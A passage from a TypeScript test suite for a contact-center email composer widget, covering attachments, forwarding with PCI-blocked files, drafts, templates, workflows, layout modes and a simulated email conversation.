    expect(shadowAll(el, '[part~="file"]').map((f) => f.dataset['file'])).to.deep.equal(['notes.txt']);
  });

  it('EM-5: dropped files are attached and sent with the email; an image placed in the body goes inline', async () => {
    const { el, adapter } = await setup();
    const png = new File(
      [
        Uint8Array.from(atob('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII='), (c) =>
          c.charCodeAt(0),
        ),
      ],
      'logo.png',
      {
        type: 'image/png',
      },
    );
    const data = new DataTransfer();
    data.items.add(file('terms.pdf'));
    data.items.add(png);
    const composer = shadow(el, '[part="composer"]');
    composer.dispatchEvent(new DragEvent('dragover', { dataTransfer: data, bubbles: true, cancelable: true }));
    await el.updateComplete;
    expect(composer.hasAttribute('data-dragging')).to.equal(true);
    composer.dispatchEvent(new DragEvent('drop', { dataTransfer: data, bubbles: true, cancelable: true }));
    await el.updateComplete;
    expect(shadowAll(el, '[part~="file"]').map((f) => f.dataset['file'])).to.deep.equal(['terms.pdf', 'logo.png']);
    await typeInBody(el, 'See: ');
    shadow<HTMLButtonElement>(el, '[part~="file"][data-file="logo.png"] .inline').click();
    await el.updateComplete;
    expect(editorOf(el).querySelector('img')?.getAttribute('src')).to.match(/^blob:/);
    await click(el, '[part="send"]');
    const sent = adapter.commands.find((c) => c.type === 'message.send') as Extract<Command, { type: 'message.send' }>;
    expect(sent.message.html).to.equal('<p>See: <img src="cid:logo.png" alt="logo.png"></p>');
    expect(sent.message.attachments!.map((a) => [a.name, a.inline === true, a.data instanceof File])).to.deep.equal([
      ['terms.pdf', false, true],
      ['logo.png', true, true],
    ]);
    expect(shadowAll(el, '[part~="file"]')).to.have.length(0);
  });

  it('EM-3/EM-5: Forward carries the last email’s attachments (never a PCI-blocked one), each removable; a reply carries none', async () => {
    const files = received('f1', 5 * MINUTE, {
      attachments: [
        { id: 'x1', name: 'statement.pdf', size: 2048, type: 'application/pdf' },
        { id: 'x2', name: 'photo.jpg', size: 1024, type: 'image/jpeg' },
        { id: 'x3', name: 'scan.pdf', size: 1000, type: 'application/pdf', blocked: { code: 'pci', message: 'Card number.' } },
      ],
    });
    const { el, adapter } = await setup({ messages: [...THREAD, files], mode: 'reply' });
    expect(el.shadowRoot!.querySelector('[part="forwarded"]'), 'a reply forwards nothing').to.equal(null);
    await click(el, '[part="mode"][data-mode="forward"]');
    const chips = () => [...el.shadowRoot!.querySelectorAll<HTMLElement>('[part="forwarded"] [data-forwarded]')];
    expect(chips().map((c) => c.dataset['forwarded'])).to.deep.equal(['x1', 'x2']);
    await click(el, '[data-forwarded="x2"] .remove');
    expect(chips().map((c) => c.dataset['forwarded'])).to.deep.equal(['x1']);
    await expect(el).to.be.accessible();
    await typeInField(el, 'to', 'accounts@partner.example');
    await click(el, '[part="send"]');
    const sent = adapter.commands.find((c) => c.type === 'message.send') as Extract<Command, { type: 'message.send' }>;
    expect(sent.message.forwardedAttachmentIds).to.deep.equal(['x1']);
    expect(sent.message.email?.mode).to.equal('forward');
  });

  it('EM-5: a received attachment that fails PCI is greyed out; choosing it explains why above the composer', async () => {
    const blocked = received('b1', 5 * MINUTE, {
      attachments: [
        {
          id: 'x1',
          name: 'scan.pdf',
          size: 1000,
          type: 'application/pdf',
          blocked: { code: 'pci', message: 'This file contains a card number.' },
        },
      ],
    });
    const { el } = await setup({ messages: [...THREAD, blocked] });
    const chip = shadow<HTMLButtonElement>(el, '[data-message-id="b1"] [part~="attachment-blocked"]');
    expect(chip.getAttribute('aria-disabled')).to.equal('true');
    expect(chip.getAttribute('aria-label')).to.equal('scan.pdf, 1,000 bytes, blocked: This file contains a card number.');
    expect(el.shadowRoot!.querySelector('[data-kind="blocked-attachment"]')).to.equal(null);
    chip.click();
    await el.updateComplete;
    const banner = shadow(el, '[part="banner"][data-kind="blocked-attachment"]');
    expect(words(banner)).to.equal('“scan.pdf” is disabled. This file contains a card number. ×');
    // Above the composer's fields.
    expect(banner.compareDocumentPosition(field(el, 'to')) & Node.DOCUMENT_POSITION_FOLLOWING).to.not.equal(0);
    // The rule's own verdict too: a name with a card number on the older email.
    shadow<HTMLButtonElement>(el, '[data-message-id="m1"] [part="email-toggle"]').click();
    await el.updateComplete;
    const card = shadow<HTMLButtonElement>(el, '[data-message-id="m1"] [part~="attachment-blocked"]');
    card.click();
    await el.updateComplete;
    expect(words(shadow(el, '[data-kind="blocked-attachment"]'))).to.contain('failed the PCI check');
    await expect(el).to.be.accessible();
  });

  // ---- EM-6 --------------------------------------------------------------------------------------------

  it('EM-6: a new email while replying shows "Show all messages" and appears in blue at the top', async () => {
    const { el, adapter } = await setup();
    await typeInBody(el, 'Dear Maria');
    adapter.emit({ type: 'message.added', message: received('m5', 6 * MINUTE, { html: '<p>Found it, thanks!</p>' }) });
    await settle();
    await el.updateComplete;
    const emails = shadowAll(el, '[part~="email"]');
    expect(emails[0]!.dataset['messageId']).to.equal('m5');
    expect(emails[0]!.getAttribute('part')).to.equal('email email-new');
    expect(getComputedStyle(emails[0]!).borderInlineStartColor).to.equal('rgb(11, 92, 173)');
    const banner = shadow(el, '[part="banner"][data-kind="new-email"]');
    expect(words(banner)).to.equal('A new email arrived while you were replying. Show all messages');
    expect(words(shadow(el, '[role="status"][aria-live="polite"]'))).to.equal(
      'A new email arrived from maria@example.com while you were replying.',
    );
    expect(words(editorOf(el)), 'the reply is untouched').to.equal('Dear Maria');
    await expect(el).to.be.accessible();
    await click(el, '[part="show-all"]');
    expect(el.shadowRoot!.querySelector('[data-kind="new-email"]')).to.equal(null);
    expect(el.shadowRoot!.activeElement).to.equal(shadow(el, '[data-message-id="m5"] [part="email-toggle"]'));
  });

  it('EM-6: a new email when not replying just joins the top of the thread', async () => {
    const { el, adapter } = await setup();
    adapter.emit({ type: 'message.added', message: received('m5', 6 * MINUTE) });
    await settle();
    await el.updateComplete;
    expect(shadowAll(el, '[part~="email"]')[0]!.dataset['messageId']).to.equal('m5');
    expect(el.shadowRoot!.querySelector('[data-kind="new-email"]')).to.equal(null);
  });

  // ---- EM-7 drafts, templates, workflows ----------------------------------------------------------------

  it('EM-7: the draft is saved once typing pauses, per conversation, and comes back on switching and after a reload', async () => {
    const time = new ManualTime();
    const storage = memoryStorage();
    const other = emailTask({ id: 'em-2', customerName: 'Ion Popa' });
    const { el, client, adapter, events } = await setup({ time, storage, mode: 'replyAll' });
    adapter.emit({ type: 'task.updated', task: other });
    adapter.emit({
      type: 'thread.loaded',
      taskId: 'em-2',
      messages: [received('o1', MINUTE, { taskId: 'em-2' }, { from: 'ion@example.com', subject: 'Loan' })],
    });
    await typeInBody(el, 'Draft one');
    await typeInField(el, 'cc', 'ion@example.com, extra@example.org');
    await time.advance(DRAFT_DEBOUNCE_MS - 200);
    expect(client.state.drafts['em-1'], 'not while typing').to.equal(undefined);
    await time.advance(300);
    expect(client.state.drafts['em-1']).to.deep.equal({
      html: '<p>Draft one</p>',
      email: { mode: 'replyAll', to: [MARIA], cc: [ION, 'extra@example.org'], subject: 'Re: Card blocked' },
    });
    expect(events.filter((e) => e.type === 'cc-draft-saved').map((e) => e.detail)).to.deep.equal([
      { taskId: 'em-1', cleared: false } satisfies DraftSavedDetail,
    ]);

    // Switching: the other conversation has its own (empty) composer; coming back restores this one.
    el.taskId = 'em-2';
    await settle();
    await el.updateComplete;
    expect(words(editorOf(el))).to.equal('');
    expect(field(el, 'to').value).to.equal('ion@example.com');
    el.taskId = 'em-1';
    await settle();
    await el.updateComplete;
    expect(words(editorOf(el))).to.equal('Draft one');
    expect(field(el, 'cc').value).to.equal('ion@example.com, extra@example.org');
    expect(shadow(el, '[part="mode"][data-mode="replyAll"]').getAttribute('aria-pressed')).to.equal('true');
    expect(words(shadow(el, '[data-kind="draft-restored"]'))).to.equal('Your draft was restored.');

    // A reload: a new client on the same storage, a new element.
    el.remove();
    client.dispose();
    const again = await setup({ time, storage });
    await settle();
    await again.el.updateComplete;
    expect(words(editorOf(again.el))).to.equal('Draft one');
    expect(field(again.el, 'cc').value).to.equal('ion@example.com, extra@example.org');
    await expect(again.el).to.be.accessible();
  });

  it('EM-7/EM-8: Delete draft empties the body, attachments and fields and clears the stored draft', async () => {
    const time = new ManualTime();
    const { el, client, events } = await setup({ time, mode: 'forward' });
    await typeInField(el, 'to', 'bob@example.org');
    await typeInBody(el, 'Extra words');
    await pick(el, [file('a.pdf')]);
    await time.advance(DRAFT_DEBOUNCE_MS + 100);
    expect(client.state.drafts['em-1']).to.not.equal(undefined);
    await click(el, '[part="delete-draft"]');
    expect(client.state.drafts['em-1']).to.equal(undefined);
    expect(field(el, 'to').value).to.equal('');
    expect(shadowAll(el, '[part~="file"]')).to.have.length(0);
    expect(words(editorOf(el))).to.contain('Forwarded message');
    expect(words(editorOf(el))).to.not.contain('Extra words');
    expect(events.at(-1)).to.deep.equal({ type: 'cc-draft-saved', detail: { taskId: 'em-1', cleared: true } });
    await time.advance(DRAFT_DEBOUNCE_MS + 100);
    expect(client.state.drafts['em-1'], 'no late save brings it back').to.equal(undefined);
  });

  it('EM-7/TP-8: templates by group and search replace the body; system parameters are filled and Tab selects the others', async () => {
    const { el } = await setup();
    await typeInBody(el, 'Text to be replaced');
    await click(el, '[data-tool="templates"]');
    const panel = () => shadow(el, '[part="panel"]');
    expect(shadowAll(el, '.template-list button').map(words)).to.deep.equal(
      ['Thanks', 'Locked: Legal notice'].map((t) => t.replace('Locked: ', '🔒 Locked: ')),
    );
    const groups = shadowAll(el, '.groups button').map(words);
    expect(groups).to.deep.equal(['All templates', 'Courtesy', 'Legal']);
    shadowAll<HTMLButtonElement>(el, '.groups button')[2]!.click();
    await el.updateComplete;
    expect(shadowAll(el, '.template-list button').map((b) => b.dataset['template'])).to.deep.equal(['t-legal']);
    shadowAll<HTMLButtonElement>(el, '.groups button')[0]!.click();
    const search = shadow<HTMLInputElement>(el, '#template-search');
    search.value = 'thank';
    search.dispatchEvent(new Event('input'));
    await el.updateComplete;
    expect(shadowAll(el, '.template-list button').map((b) => b.dataset['template'])).to.deep.equal(['t-thanks']);
    await expect(panel()).to.be.accessible();
    await click(el, '[data-template="t-thanks"]');
    const selected = () => document.getSelection()?.toString();
    expect(words(editorOf(el))).to.equal('Dear Maria Ionescu, Thank you for {{topic}}. Your reference is {{reference}}. Regards');
    expect(selected(), 'the first field to replace is selected').to.equal('{{topic}}');
    await sendKeys({ type: 'your patience' });
    await sendKeys({ press: 'Tab' });
    expect(selected()).to.equal('{{reference}}');
    await sendKeys({ type: 'R-12' });
    expect(words(editorOf(el))).to.equal('Dear Maria Ionescu, Thank you for your patience. Your reference is R-12. Regards');
    // No field left: Tab leaves the body (the keyboard is never trapped).
    await sendKeys({ press: 'Tab' });
    expect(el.shadowRoot!.activeElement).to.not.equal(editorOf(el));
  });

  it('TP-8: a locked template cannot be edited; an attempt says so', async () => {
    const { el } = await setup();
    await click(el, '[data-tool="templates"]');
    await click(el, '[data-template="t-legal"]');
    expect(words(editorOf(el))).to.equal('This message is confidential.');
    editorOf(el).focus();
    await sendKeys({ type: 'Not ' });
    await el.updateComplete;
    expect(words(editorOf(el))).to.equal('This message is confidential.');
    expect(words(shadow(el, '[part="template-error"]'))).to.equal(
      '“Legal notice” is a locked template: send it as it is, or delete the draft to write your own.',
    );
    expect(shadow(el, '[part="template-error"]').getAttribute('role')).to.equal('alert');
  });

  it('TP-10: a workflow with parameters asks for them in a dialog; one without runs at once', async () => {
    const { el, adapter } = await setup();
    await click(el, '[data-tool="workflows"]');
    await click(el, '[data-workflow="wf-crm"]');
    expect(adapter.commands.filter((c) => c.type === 'workflow.run').map((c) => (c as { workflowId: string }).workflowId)).to.deep.equal([
      'wf-crm',
    ]);
    expect(words(shadow(el, '[role="status"][aria-live="polite"]'))).to.equal('Workflow “Log in CRM” triggered.');
    await click(el, '[data-tool="workflows"]');
    await click(el, '[data-workflow="wf-refund"]');
    const dialog = shadow<HTMLDialogElement>(el, 'dialog');
    expect(dialog.open).to.equal(true);
    expect(words(dialog.querySelector('h2'))).to.equal('Refund');
    await expect(dialog).to.be.accessible();
    const amount = dialog.querySelector<HTMLInputElement>('#wf-amount')!;
    amount.value = '25 EUR';
    amount.dispatchEvent(new Event('input'));
    await el.updateComplete;
    dialog.querySelector<HTMLFormElement>('form')!.requestSubmit();
    await settle();
    await el.updateComplete;
    const run = adapter.commands.filter((c) => c.type === 'workflow.run').at(-1) as Extract<Command, { type: 'workflow.run' }>;
    expect(run).to.deep.equal({ type: 'workflow.run', taskId: 'em-1', workflowId: 'wf-refund', parameters: { amount: '25 EUR' } });
    expect(dialog.open).to.equal(false);
  });

  // ---- EM-8 --------------------------------------------------------------------------------------------

  it('EM-8: the reply area minimises to a bar and maximises over the thread', async () => {
    const { el } = await setup();
    await typeInBody(el, 'Kept while minimised');
    await click(el, '[part="size-toggle"][data-action="minimise"]');
    expect(el.size).to.equal('minimised');
    expect(el.getAttribute('size')).to.equal('minimised');
    expect(shadow(el, '#compose-body').hidden).to.equal(true);
    expect(words(shadow(el, '.composer-bar .bar-title:not([hidden])'))).to.equal('Re: Card blocked');
    expect(button(el, '[data-action="minimise"]').getAttribute('aria-expanded')).to.equal('false');
    await expect(el).to.be.accessible();
    await click(el, '[part="size-toggle"][data-action="minimise"]');
    expect(words(editorOf(el))).to.equal('Kept while minimised');
    await click(el, '[part="size-toggle"][data-action="maximise"]');
    expect(el.getAttribute('size')).to.equal('maximised');
    expect(button(el, '[data-action="maximise"]').getAttribute('aria-pressed')).to.equal('true');
    expect(parseFloat(getComputedStyle(shadow(el, '.thread-area')).maxHeight)).to.be.lessThan(200);
  });

  it('view="composer": the reply area alone, for a host that shows its own thread; "Show all messages" asks the host', async () => {
    const { el, adapter } = await setup();
    el.view = 'composer';
    await el.updateComplete;
    expect(el.shadowRoot!.querySelector('[part="thread"]')).to.equal(null);
    expect(el.shadowRoot!.querySelector('[part="composer"]')).to.not.equal(null);
    const asked: string[] = [];
    el.addEventListener('cc-email-show-all', (e) => asked.push(e.detail.taskId));
    await typeInBody(el, 'Replying');
    adapter.emit({ type: 'message.added', message: received('m5', 6 * MINUTE) });
    await settle();
    await el.updateComplete;
    await click(el, '[part="show-all"]');
    expect(asked).to.deep.equal(['em-1']);
    expect(el.shadowRoot!.querySelector('[data-kind="new-email"]')).to.equal(null);
    await expect(el).to.be.accessible();
  });

  it('shows why when there is no client, no task or not an email', async () => {
    const el = await fixture<CcEmailComposer>(html`<cc-email-composer task-id="em-1"></cc-email-composer>`);
    expect(words(shadow(el, '.empty'))).to.equal('No contact-center client is connected to this widget.');
    await expect(el).to.be.accessible();
    const { el: voice } = await setup({ task: { ...emailTask(), media: 'voice' }, editor: false });
    expect(words(shadow(voice, '.empty'))).to.equal('This conversation is not an email.');
  });

  // ---- a whole conversation on the simulator ----------------------------------------------------------

  it('EM-1…EM-3, EM-8 on the simulator: an email arrives, is accepted, answered and sent, then delivered', async () => {
    const time = new ManualTime();
    // The digital world with nobody waiting and customers who write only when told.
    const world: SimScenario = {
      ...SCENARIOS.digital,
      queues: SCENARIOS.digital.queues.map((queue) => ({ ...queue, waitingAtStart: 0 })),
      customersReply: false,
    };
    const adapter = createSimAdapter({ scenario: world, scheduler: time.scheduler, latencyMs: 50, agentId: 'ana.popescu' });
    const client = createClient({ adapter, scheduler: time.scheduler, storage: memoryStorage() });
    await time.advance(200);
    void client.signIn({ role: 'agent', station: { kind: 'dialNumber', number: '+14155550124' }, teamId: 'team-billing' });
    await time.advance(200);
    void client.setChannelState('email', 'ready');
    await time.advance(200);
    const taskId = adapter.engine.injectContact({
      queueId: 'dq-email',
      customerName: 'Chloé Dubois',
      from: 'chloe.dubois@example.com',
      subject: 'Invoice charged twice',
      html: '<p>Hello, invoice <b>INV-2291</b> was charged twice.</p>',
    });
    await time.advance(100);
    const el = await fixture<CcEmailComposer>(
      html`<cc-email-composer .client=${client} task-id=${taskId} mailbox="support@acme.example"></cc-email-composer>`,
    );
    const sent: EmailSentDetail[] = [];
    el.addEventListener('cc-email-sent', (e) => sent.push(e.detail));
    await el.updateComplete;
    // EM-1: the offer with the customer's details.
    const details = Object.fromEntries(
      shadowAll(el, '[part="customer"] div').map((d) => [words(d.querySelector('dt')), words(d.querySelector('dd'))]),
    );
    expect(details).to.deep.include({
      Name: 'Chloé Dubois',
      Email: 'chloe.dubois@example.com',
      'Question details': 'Invoice charged twice',
    });
    expect(details['Account number']).to.match(/^AC-\d{8}$/);
    expect(details['Address']).to.not.equal('');
    await click(el, '[part="accept"]');
    await time.advance(600);
    await editorReady(el);
    // EM-2: the email as received.
    const email = shadowAll(el, '[part~="email"]')[0]!;
    expect(words(email.querySelector('[part="addresses"]'))).to.equal(
      'From chloe.dubois@example.com To support@acme.example Subject Invoice charged twice',
    );
    // EM-3: Reply fills To and Subject.
    expect(field(el, 'to').value).to.equal('chloe.dubois@example.com');
    expect(field(el, 'subject').value).to.equal('Re: Invoice charged twice');
    await typeInBody(el, 'We have refunded the second charge.');
    await click(el, '[part="send"]');
    const mine = () => shadowAll(el, '[part~="email"]')[0]!;
    expect(mine().dataset['state']).to.equal('sending');
    await time.advance(200);
    expect(mine().dataset['state']).to.equal('sent');
    expect(words(mine().querySelector('[part="from"]'))).to.equal('support@acme.example');
    await time.advance(1_100);
    expect(mine().dataset['state'], 'TP-12 receipt').to.equal('delivered');
    expect(words(mine().querySelector('[part="state"]'))).to.equal('Delivered');
    expect(sent).to.deep.equal([{ taskId, mode: 'reply', to: ['chloe.dubois@example.com'], cc: [], subject: 'Re: Invoice charged twice' }]);
    // The customer writes back while nobody is replying: it joins the top of the thread.
    adapter.engine.customerWrites(taskId, { html: '<p>Thank you!</p>' });
    await time.advance(100);
    expect(words(shadowAll(el, '[part~="email"]')[0]!.querySelector('[part="body"]')?.shadowRoot?.querySelector('.cc-content'))).to.equal(
      'Thank you!',
    );
    await expect(el).to.be.accessible();
    client.dispose();
  });
});

declare global {
  interface Window {
    ccPwned?: string[] | undefined;
  }
}
